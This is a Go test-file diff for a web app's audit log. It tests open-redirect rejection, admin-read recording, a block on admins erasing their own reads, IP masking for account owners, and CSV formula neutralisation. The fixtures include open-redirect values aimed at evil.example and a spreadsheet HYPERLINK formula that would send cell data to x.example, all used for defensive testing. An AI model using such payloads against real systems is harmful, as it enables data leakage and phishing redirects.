@@ -241,7 +241,8 @@ func TestLogin(t *testing.T) {
 		}
 	}
 	for next, want := range map[string]string{"/projects/tinyweb": "/projects/tinyweb", "//evil.example": "/me",
-		"https://evil.example/": "/me", `/\evil.example`: "/me"} {
+		"https://evil.example/": "/me", `/\evil.example`: "/me", "/\t/evil.example": "/me", "/\n/evil.example": "/me",
+		"/admin/events?user=x": "/admin/events?user=x"} {
 		resp, err := client.Get(b.srv.URL + "/login?token=" + url.QueryEscape(b.tokens["user"]) + "&next=" + url.QueryEscape(next))
 		require.NoError(t, err)
 		resp.Body.Close()
@@ -431,6 +432,15 @@ func TestAdminReadIsRecorded(t *testing.T) {
 	require.Equal(t, "json", first["format"])
 	require.Contains(t, first["filter"], "user=alice")
 	require.Equal(t, "root", p.Events[0].ActorID)
+	// An admin on a project page sees everything, so that read is recorded too.
+	status, _ = b.get(t, "admin", "/api/v1/projects/tinyweb/events")
+	require.Equal(t, http.StatusOK, status)
+	p, err = b.log.UserEvents(b.ctx, "root", service.ListOpts{Tag: "admin:events:view"})
+	require.NoError(t, err)
+	require.Len(t, p.Events, 3)
+	var latest map[string]string
+	require.NoError(t, json.Unmarshal(p.Events[0].Additional, &latest))
+	require.Equal(t, "project", latest["format"])
 	// A refused read is not recorded (nothing was shown).
 	status, _ = b.get(t, "user", "/api/v1/admin/events")
 	require.Equal(t, http.StatusForbidden, status)
@@ -518,6 +528,14 @@ func TestErasureFormCSRF(t *testing.T) {
 	m := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)
 	require.Len(t, m, 2)
 	require.Equal(t, http.StatusForbidden, post("user", m[1]), "not an admin")
+	self := url.Values{"user_id": {"root"}, "reason": {"hide my reads"}, "csrf": {m[1]}}
+	req, _ := http.NewRequest("POST", b.srv.URL+"/admin/erasures", strings.NewReader(self.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.AddCookie(&http.Cookie{Name: web.SessionCookie, Value: b.tokens["admin"]})
+	resp, err := client.Do(req)
+	require.NoError(t, err)
+	resp.Body.Close()
+	require.Equal(t, http.StatusForbidden, resp.StatusCode, "an admin cannot erase their own reads")
 	require.Zero(t, countRows(t, b, "SELECT count(*) FROM erasure_requests"))
 	require.Equal(t, http.StatusSeeOther, post("admin", m[1]))
 	require.Equal(t, 1, countRows(t, b, "SELECT count(*) FROM erasure_requests WHERE user_id = 'bob' AND requested_by = 'root'"))
@@ -531,4 +549,58 @@ func countRows(t *testing.T, b *webBundle, sql string) int {
 	var n int
 	require.NoError(t, b.pool.QueryRow(b.ctx, sql).Scan(&n))
 	return n
+}
+
+// On my own history, an event someone else did to my account shows their
+// network and device, not their raw IP and user agent; my own sign-ins show
+// mine.
+func TestOwnerDoesNotSeeTheActorsIP(t *testing.T) {
+	t.Parallel()
+	b := webSetup(t)
+	_, err := b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:email:add", Subject: "alice", ActorID: "root",
+		AuthMethod: "webauthn", IP: "203.0.113.66", UserAgent: "Mozilla/5.0 (Windows NT 10.0) Chrome/140.0",
+		Additional: json.RawMessage(`{"email": "alice@work.example"}`)})
+	require.NoError(t, err)
+	_, body := b.get(t, "user", "/api/v1/me/events")
+	for _, e := range events(t, body) {
+		if e["actor_id"] == "root" {
+			require.NotContains(t, e, "ip")
+			require.NotContains(t, e, "user_agent")
+			require.Equal(t, "203.0.113.0/24", e["network"])
+			require.Equal(t, "Chrome on Windows", e["device"])
+			require.Contains(t, e["additional"], "email", "alice's own e-mail address is hers to see")
+		} else {
+			require.Equal(t, "192.0.2.10", e["ip"])
+		}
+	}
+	require.NotContains(t, body, "203.0.113.66")
+	_, page := b.get(t, "user", "/me")
+	require.NotContains(t, page, "203.0.113.66")
+	_, body = b.get(t, "admin", "/api/v1/admin/events?user=alice")
+	require.Contains(t, body, "203.0.113.66", "admins see it")
+}
+
+// CSV cells that a spreadsheet would run as a formula are neutralised,
+// whichever column they are in; events of a tag no longer registered show
+// no additional data to the public.
+func TestExportCSVFormulasAndRetiredTags(t *testing.T) {
+	t.Parallel()
+	b := webSetup(t)
+	_, err := b.log.RecordUser(b.ctx, service.EventParams{Tag: "account:login:failure", Subject: "alice",
+		UserAgent: `=HYPERLINK("http://x.example/?"&A1)`, Location: &service.Location{City: "@SUM(1)"},
+		Additional: json.RawMessage(`{"reason": "bad password"}`)})
+	require.NoError(t, err)
+	status, csv := b.get(t, "admin", "/admin/export?format=csv&user=alice")
+	require.Equal(t, http.StatusOK, status)
+	require.Contains(t, csv, `'=HYPERLINK`)
+	require.Contains(t, csv, `'@SUM(1)`)
+	require.NotContains(t, csv, `,=HYPERLINK`)
+	require.NotContains(t, csv, `,"=HYPERLINK`)
+
+	_, err = b.pool.Exec(b.ctx, `INSERT INTO project_events (tag, project_id, description, additional)
+		VALUES ('project:retired:thing', 'tinyweb', 'Something retired', '{"email": "old@example.com"}')`)
+	require.NoError(t, err)
+	_, body := b.get(t, "anonymous", "/api/v1/projects/tinyweb/events")
+	require.Contains(t, body, "Something retired")
+	require.NotContains(t, body, "old@example.com")
 }
